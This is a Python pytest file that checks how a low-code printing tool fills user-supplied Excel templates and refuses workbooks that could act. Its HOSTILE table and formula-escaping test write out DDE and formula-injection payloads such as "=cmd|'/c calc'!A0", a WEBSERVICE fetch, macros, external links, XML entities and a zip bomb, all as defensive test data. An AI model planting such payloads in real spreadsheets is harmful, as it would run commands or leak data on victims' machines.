"""Excel files of one's own: place-holders in cells, repeated rows with looks and formulas; what acts is refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from PIL import Image

from lowcode.printing.blocks.drawing.office import Refused, parsed
from lowcode.printing.blocks.drawing.workbooks import DRAWN, opened
from lowcode.printing.outputs.worker.pool import Workers
from lowcode.printing.outputs.xlsx import workbook
from lowcode.printing.run import paper
from tests.printing.sample import facts, record, understood
from tests.printing.test_word import RELATION, changed

NAME = "templates/own.xlsx"


def dot() -> bytes:
    """The smallest picture."""
    raw = io.BytesIO()
    Image.new("RGB", (1, 1), "white").save(raw, "PNG")
    return raw.getvalue()


DOT = dot()


def made(*more: tuple[str, str]) -> bytes:
    """A workbook as a person makes it: looks, merged cells, heights, a print area, formulas, a chart, pictures."""
    raw = io.BytesIO()
    book = xlsxwriter.Workbook(raw, {"in_memory": True})
    sheet = book.add_worksheet("报价 单")
    money, day, bold = (book.add_format(each) for each in (
        {"num_format": "#,##0.00", "bottom": 1}, {"num_format": "yyyy-mm-dd"}, {"bold": True}))  # fmt: skip
    sheet.write_string("A1", "报价单 {{ number }}（{{ account.name }}）", bold)
    sheet.write_row("A4", ["序号", "型号", "品名", "", "数量", "单价", "金额"], bold)
    sheet.write_string("A5", "{{ line }}")
    sheet.write_string("B5", "{{ items.code }}", bold)
    sheet.merge_range("C5:D5", "{{ items.name }}")
    for cell, text in (("E5", "{{ items.quantity }}"), ("F5", "{{ items.price }}")):
        sheet.write_string(cell, text, money)
    sheet.write_formula("G5", "=E5*F5", money, 99)
    sheet.write_formula("H5", "=SUM(G$5:G5)", money, 99)
    sheet.set_row(4, 33)
    sheet.write_string("F6", "合计", bold)
    sheet.write_formula("G6", "=SUM(G5:G5)", money, 99)
    sheet.merge_range("A7:G7", "{{ if remarks is not blank }}备注：{{ remarks }}")
    sheet.write_string("A8", "{{ valid_until }}", day)
    sheet.write_string("B8", "{{ valid_until }}")
    sheet.write_string("C8", "{{ stage }}")
    sheet.write_string("D8", "{{ number }}", book.add_format({"num_format": "@"}))
    sheet.conditional_format("G5:G5", {"type": "cell", "criteria": ">", "value": 50000, "format": bold})
    sheet.data_validation("E5:E5", {"validate": "integer", "criteria": ">", "value": 0})
    sheet.print_area("A1:G9")
    sheet.repeat_rows(3)
    sheet.set_header("&L{{ account.name }}&R第 &P 页")
    sheet.set_h_pagebreaks([8])
    sheet.insert_image("A10", "logo.png", {"image_data": io.BytesIO(DOT), "description": "标志"})
    sheet.insert_image("C10", "code.png", {"image_data": io.BytesIO(DOT), "description": "{{ qrcode number }}",
                                           "x_scale": 80, "y_scale": 80})  # fmt: skip
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "='报价 单'!$G$5:$G$5"})
    sheet.insert_chart("E10", chart)
    sheet.write_comment("G6", "核对")
    other = book.add_worksheet("汇总")
    other.write_formula("A1", "='报价 单'!G6*1.13", money, 99)
    book.define_name("行", "='报价 单'!$A$5:$G$5")
    for cell, text in more:
        sheet.write(cell, text)
    book.close()
    return raw.getvalue()


def template(**more: Any) -> dict[str, Any]:
    """A template that is the file."""
    return {"outputs": ["xlsx"], "body": [{"type": "excel", "file": NAME, "rows": ["items"], **more}]}


@pytest.fixture
def filled(workers: Workers) -> Callable[..., bytes]:
    """Fills the workbook; the file."""

    def fill(count: int = 3, content: bytes | None = None, **values: Any) -> bytes:
        plan, report = understood(template(), {NAME: content or made()})
        assert plan is not None and report.ok, str(report)
        tree = paper(plan, facts(plan, record(count, **values)))
        file = workbook(tree, lambda made, form: workers.draw(made, [], form))
        assert file == workbook(tree, lambda made, form: workers.draw(made, [], form))
        return file

    return fill


def parts_of(content: bytes) -> dict[str, str]:
    """The members as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {each: archive.read(each).decode("utf-8", "replace") for each in archive.namelist()}


@pytest.mark.requirement("T3", "X17")
def test_a_workbook_is_filled(filled: Callable[..., bytes]) -> None:
    """A row per line with its look, height and merged cells; numbers are numbers, days are days, sums are stretched."""
    book = openpyxl.load_workbook(io.BytesIO(filled()))
    sheet = book["报价 单"]
    assert sheet["A1"].value == "报价单 Q202611-0001（苏州博世汽车部件有限公司）"
    rows = [[sheet.cell(row, column).value for column in (1, 2, 3, 5, 6, 7, 8)] for row in (5, 6, 7)]
    assert rows == [
        [n, f"PT-000{n}", "压力变送器 3051", n + 1, 8650 + n, f"=E{n + 4}*F{n + 4}", f"=SUM(G$5:G{n + 4})"]
        for n in (1, 2, 3)
    ]
    assert [sheet.row_dimensions[row].height for row in (5, 6, 7, 8)] == [33, 33, 33, None]
    assert [sheet.cell(row, 7).number_format for row in (5, 6, 7, 8)] == ["#,##0.00"] * 4
    assert all(sheet.cell(row, 2).font.bold for row in (5, 6, 7))
    assert {"C5:D5", "C6:D6", "C7:D7"} == {str(each) for each in sheet.merged_cells.ranges}
    assert (sheet["F8"].value, sheet["G8"].value) == ("合计", "=SUM(G5:G7)")
    assert (sheet["A9"].value, sheet["B9"].value) == (datetime(2026, 12, 31), "2026年12月31日")
    assert (sheet["C9"].value, sheet["D9"].value) == ("已批准", "Q202611-0001")
    assert book["汇总"]["A1"].value == "='报价 单'!G8*1.13"
    assert sheet.print_area == "'报价 单'!$A$1:$G$10" and sheet.print_title_rows == "$4:$4"
    assert book.defined_names["行"].value == "'报价 单'!$A$5:$G$7"
    assert [str(each.sqref) for each in sheet.conditional_formatting] == ["G5:G7"]
    assert [str(each.sqref) for each in sheet.data_validations.dataValidation] == ["E5:E7"]
    assert sheet.oddHeader.left.text == "苏州博世汽车部件有限公司"
    assert sheet["G8"].comment is not None and sheet["G8"].comment.text == "核对"


def test_what_stands_around_moves_along(filled: Callable[..., bytes]) -> None:
    """Pictures and the chart move down by the rows that came; the chart's numbers are those of all lines; nothing is
    left of what was computed before, and Excel is told to compute."""
    parts = parts_of(filled(5, remarks="急件"))
    drawing = parts["xl/drawings/drawing1.xml"]
    assert drawing.count("<xdr:row>13</xdr:row>") >= 3
    assert "'报价 单'!$G$5:$G$9" in parts["xl/charts/chart1.xml"]
    assert 'fullCalcOnLoad="1"' in parts["xl/workbook.xml"]
    assert "<v>99</v>" not in parts["xl/worksheets/sheet1.xml"] + parts["xl/worksheets/sheet2.xml"]
    assert 'id="12"' in parts["xl/worksheets/sheet1.xml"]
    book = openpyxl.load_workbook(io.BytesIO(filled(5, remarks="急件")))
    assert book["报价 单"]["A11"].value == "备注：急件"
    assert "A11:G11" in {str(each) for each in book["报价 单"].merged_cells.ranges}


def test_a_picture_becomes_a_code(filled: Callable[..., bytes]) -> None:
    """The one whose description asks for it, in its size; without a text it is gone; others stay."""
    parts = parts_of(filled())
    assert [each for each in parts if each.startswith("xl/media/code")] == ["xl/media/code1.png"]
    assert 'descr="Q202611-0001"' in parts["xl/drawings/drawing1.xml"]
    blank = parts_of(filled(number=""))
    assert not [each for each in blank if each.startswith("xl/media/code")]
    assert "{{" not in blank["xl/drawings/drawing1.xml"] and "标志" in blank["xl/drawings/drawing1.xml"]


@pytest.mark.requirement("T3", "T6", "T8")
def test_each_copy_of_a_row_has_its_own_code(filled: Callable[..., bytes]) -> None:
    """A picture that begins in a row that is repeated comes with each copy, beside its row, as the code of that row;
    of a row without a text it is gone, and what is below moves down."""
    raw = io.BytesIO()
    book = xlsxwriter.Workbook(raw, {"in_memory": True})
    sheet = book.add_worksheet()
    for row, words, said in (
        (1, "{{ items.code }}", "{{ qrcode items.code }}"),
        (3, "{{ number }}", "{{ qrcode number }}"),
    ):
        sheet.write_string(row, 0, words)
        sheet.insert_image(row, 1, "code.png", {"image_data": io.BytesIO(DOT), "description": said, "x_scale": 20,
                                                "y_scale": 20})  # fmt: skip
    book.close()
    items = [{"code": "A-1"}, {"code": ""}, {"code": "A-3"}]
    parts = parts_of(filled(content=raw.getvalue(), items=items))
    drawing = parsed(parts["xl/drawings/drawing1.xml"].encode())
    about = f"{DRAWN}pic/{DRAWN}nvPicPr/{DRAWN}cNvPr"
    found = [(anchor.findtext(f"{DRAWN}from/{DRAWN}row"), anchor.find(about).get("descr")) for anchor in drawing]
    assert found == [("1", "A-1"), ("3", "A-3"), ("5", "Q202611-0001")]
    assert len([each for each in parts if each.startswith("xl/media/code")]) == 3
    none = parts_of(filled(content=raw.getvalue(), items=[]))
    assert [each for each in none if each.startswith("xl/media/code")] == ["xl/media/code1.png"]


def test_without_lines_one_blank_row_is_left(filled: Callable[..., bytes]) -> None:
    """So that what adds lines up still has something to add: the row has its look, and nothing in it."""
    sheet = openpyxl.load_workbook(io.BytesIO(filled(0, items=[])))["报价 单"]
    assert [sheet.cell(5, column).value or None for column in range(1, 9)] == [None] * 8
    assert (sheet["G6"].value, sheet.row_dimensions[5].height) == ("=SUM(G5:G5)", 33)


def test_words_are_never_formulas(filled: Callable[..., bytes]) -> None:
    """What a record holds is written as text, whatever it begins with; `&` in a page header is a sign."""
    hostile = "=cmd|'/c calc'!A0"
    values = record(1)
    values["items"][0]["name"] = "+1+1"
    book = openpyxl.load_workbook(io.BytesIO(filled(number=hostile, items=values["items"], **{"account.name": "A&B"})))
    sheet = book["报价 单"]
    assert (sheet["D7"].value, sheet["D7"].data_type) == (hostile, "s")
    assert (sheet["C5"].value, sheet["C5"].data_type) == ("+1+1", "s")
    assert sheet.oddHeader.left.text in ("A&B", "A&&B")


@pytest.mark.requirement("T3")
def test_every_place_holder_is_checked() -> None:
    """An unknown name is a finding with the nearest, wherever it stands."""
    _, report = understood(template(), {NAME: made(("J1", "{{ acount.name }}"), ("J2", "{{ items.code }}"))})
    assert [(each.code, each.hint) for each in report] == [
        ("expressions.unknown-field", "Did you mean account?"),
        ("expressions.rows-outside-aggregate", "Write SUM(items.code), COUNT(items) or another aggregate."),
    ] or [each.code for each in report] == ["expressions.unknown-field"]
    _, report = understood({**template(), "outputs": ["xlsx", "pdf"]}, {NAME: made()})
    assert [each.code for each in report] == ["printing.excel-alone"]


def inside(name: str, old: bytes, new: bytes) -> bytes:
    """A workbook with something else in one member."""
    content = made()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read(name)
    assert old in part
    return changed(content, **{name.replace("/", "__").replace(".", "_dot_"): part.replace(old, new, 1)})


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "macro": (lambda: changed(made(), xl__vbaProject_dot_bin=b"x"), "office-active"),
    "old macro": (lambda: changed(made(), xl__macrosheets__a_dot_xml=b"<a/>"), "office-active"),
    "macro type": (lambda: inside("[Content_Types].xml", b"sheet.main+xml", b"sheet.macroEnabled.main+xml"),
                   "office-active"),
    "other workbook": (lambda: changed(made(), xl__externalLinks__a_dot_xml=b"<a/>"), "office-active"),
    "connection": (lambda: changed(made(), xl__connections_dot_xml=b"<a/>"), "office-active"),
    "embedded": (lambda: changed(made(), xl__embeddings__a_dot_bin=b"x"), "office-active"),
    "picture elsewhere": (lambda: inside("xl/worksheets/_rels/sheet1.xml.rels", b"</Relationships>",
                                         RELATION + b"</Relationships>"), "office-active"),
    "fetching": (lambda: made(("J1", '=_xlfn.WEBSERVICE("http://x/"&A1)')), "office-active"),
    "dde": (lambda: inside("xl/worksheets/sheet1.xml", b"<f>E5*F5</f>", b"<f>cmd|'/c calc'!A0</f>"), "office-active"),
    "name that calls": (lambda: inside("xl/workbook.xml", b"$A$5:$G$5", b'CALL("a","b")'), "office-active"),
    "entities": (lambda: inside("xl/workbook.xml", b"<workbook", b'<!DOCTYPE a [<!ENTITY b "c">]><workbook'),
                 "office-active"),
    "bomb": (lambda: changed(made(), xl__media__a_dot_bin=bytes(60_000_000)), "office-large"),
    "broken": (lambda: changed(made(), xl__worksheets__sheet1_dot_xml=b"<worksheet"), "no-workbook"),
    "no archive": (lambda: b"a;b;c", "no-workbook"),
    "a Word file": (lambda: changed(made(), xl__workbook_dot_xml=None), "no-workbook"),
}  # fmt: skip


@pytest.mark.requirement("T3")
@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_act_is_refused(name: str) -> None:
    """With a finding of the template, and by itself."""
    build, code = HOSTILE[name]
    content = build()
    with pytest.raises(Refused) as refused:
        opened(content)
    assert refused.value.key == code
    _, report = understood(template(), {NAME: content})
    assert [each.code for each in report] == [f"printing.{code}"]


def test_a_text_that_speaks_of_a_call_is_no_call() -> None:
    """Between quotes of a formula it is words."""
    assert opened(made(("J1", '="WEBSERVICE(" & A1')))
